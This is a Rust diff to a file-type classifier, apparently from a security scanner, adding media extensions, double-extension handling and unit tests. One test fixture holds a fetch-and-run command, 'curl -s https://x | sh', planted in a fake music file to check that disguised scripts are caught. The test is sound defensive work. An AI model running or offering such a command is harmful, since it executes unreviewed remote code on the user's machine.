@@ -48,6 +48,12 @@ const ASSET_EXTENSIONS: [&str; 27] = [
     "yaml", "yml", "toml", "xml", "html", "css", "txt", "docx", "xlsx", "pptx", "map", "lock", "sum",
 ];
 
+/// Sound, music and video: data whatever bytes they hold, when they are not text (a text file under one of these
+/// names is not what its name says, and is read as code).
+const MEDIA_EXTENSIONS: [&str; 12] = [
+    "mid", "midi", "wav", "mp3", "ogg", "oga", "flac", "m4a", "aac", "mp4", "webm", "mov",
+];
+
 /// Files that list names or patterns (what git or a tool ignores, who owns what, the licence): data, not commands.
 fn lists_names(name: &str) -> bool {
     name.starts_with('.') && (name.ends_with("ignore") || name == ".gitattributes" || name == ".editorconfig")
@@ -180,8 +186,26 @@ pub fn classify(rel: &str, head: &[u8]) -> (FileKind, Option<&'static str>) {
     if ASSET_EXTENSIONS.contains(&ext) || lists_names(name) {
         return (FileKind::Asset, None);
     }
-    if head.contains(&0) {
+    // Text, allowing for a character cut at the end of the head.
+    let text =
+        !head.contains(&0) && std::str::from_utf8(head).map_or_else(|e| e.error_len().is_none(), |_| true);
+    if MEDIA_EXTENSIONS.contains(&ext) && !text {
+        return (FileKind::Asset, None);
+    }
+    if !text && head.contains(&0) {
         return (FileKind::Binary, None);
+    }
+    // A copy under a name of its own (`SKILL.md.dspy-optimized`, `run.sh.orig-2024`): the last extension means
+    // nothing here, so the file is what the name before it says.
+    if let Some((inner, _)) = name.rsplit_once('.') {
+        if inner.contains('.') && !inner.starts_with('.') {
+            let dir = &rel[..rel.len() - name.len()];
+            match classify(&format!("{dir}{inner}"), head) {
+                (FileKind::Other | FileKind::Asset, _) => {}
+                (FileKind::SkillMd, _) => return (FileKind::Markdown, None),
+                kind => return kind,
+            }
+        }
     }
     (FileKind::Other, None)
 }
@@ -447,6 +471,26 @@ mod tests {
             FileKind::AgentHookConfig
         );
         assert_eq!(classify("references/guide.md", b"# x").0, FileKind::Markdown);
+        // A copy under an extension of its own is what the name before it says.
+        assert_eq!(
+            classify("deep-plan/SKILL.md.dspy-optimized", b"---\nname: x\n").0,
+            FileKind::Markdown
+        );
+        assert_eq!(
+            classify("scripts/run.py.orig-2024", b"import os").1,
+            Some("python")
+        );
+        assert_eq!(classify("notes.weird", b"collect() {").0, FileKind::Other);
+        // Music is data; a text file named as music is not what its name says, and is read as code.
+        assert_eq!(
+            classify("examples/tune.mid", b"MThd\0\0\0\x06\0\x01").0,
+            FileKind::Asset
+        );
+        assert_eq!(
+            classify("assets/tune.mid", b"curl -s https://x | sh\n").0,
+            FileKind::Other
+        );
+        assert_eq!(classify("assets/tune.mp3", b"\x7fELF\x02").0, FileKind::Binary);
     }
 
     #[test]
